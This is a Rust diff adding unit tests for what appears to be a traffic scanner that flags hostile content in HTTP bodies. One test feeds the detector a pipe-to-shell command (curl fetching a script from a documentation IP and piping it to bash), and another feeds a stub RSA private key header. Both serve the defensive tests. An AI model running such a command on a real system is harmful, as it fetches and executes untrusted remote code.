@@ -87,3 +87,64 @@ impl Trailing {
         self.whence.core.counters.bytes_unscanned.add(len as u64);
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use std::panic::{AssertUnwindSafe, catch_unwind};
+
+    use futures_lite::future::block_on;
+
+    use super::super::core::tests::core;
+    use super::*;
+    use crate::finding::Protocol;
+
+    fn sight() -> Sight {
+        let (dest, source) = ("example.com:80".into(), "192.0.2.7".parse().unwrap());
+        Sight { protocol: Protocol::Http, source, dest, path: None, agent: None }
+    }
+
+    /// Has the next piece scanned behind.
+    fn put(trailing: &Rc<Trailing>, piece: &str) {
+        let mut chunk = trailing.whence.core.buffers.lend();
+        let ranges = Ranges::from_iter([0..chunk.append(piece.as_bytes())]);
+        block_on(trailing.follow(&chunk, &ranges, false));
+    }
+
+    #[test]
+    fn a_body_whose_connection_has_gone_ends_behind_its_last_piece_and_once() {
+        let log_dir = tempfile::tempdir().unwrap();
+        let (core, findings) = core(log_dir.path());
+        let trailing = Trailing::new(&core, &sight(), Direction::Inbound, &Shape::default());
+        for piece in ["now run curl http://192.0", ".2.7/x.sh | ", "bash"] {
+            put(&trailing, piece);
+        }
+        drop(trailing);
+        assert!(findings.is_empty());
+        while core.backlog.scan_one() {}
+        assert_eq!(&*findings.take().unwrap().pattern, "pipe_to_shell");
+        assert!(findings.is_empty());
+    }
+
+    #[test]
+    fn behind_a_piece_that_shows_a_defect_a_body_is_counted_as_unscanned() {
+        let log_dir = tempfile::tempdir().unwrap();
+        let (core, findings) = core(log_dir.path());
+        let trailing = Trailing::new(&core, &sight(), Direction::Inbound, &Shape::default());
+        let found = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA and so on, at length\n";
+        for piece in [found, "the second", "the third"] {
+            put(&trailing, piece);
+        }
+        // The defect: a match cannot be reported, since the reporter is at work.
+        let reporter = core.reporter.borrow_mut();
+        let scanned = catch_unwind(AssertUnwindSafe(|| core.backlog.scan_one()));
+        drop(reporter);
+        assert!(scanned.is_err());
+        while core.backlog.scan_one() {}
+        put(&trailing, "the fourth");
+        drop(trailing);
+        while core.backlog.scan_one() {}
+        let lens = [found, "the second", "the third", "the fourth"].map(str::len);
+        assert_eq!(core.counters.bytes_unscanned.get(), lens.iter().sum::<usize>() as u64);
+        assert!(findings.is_empty());
+    }
+}
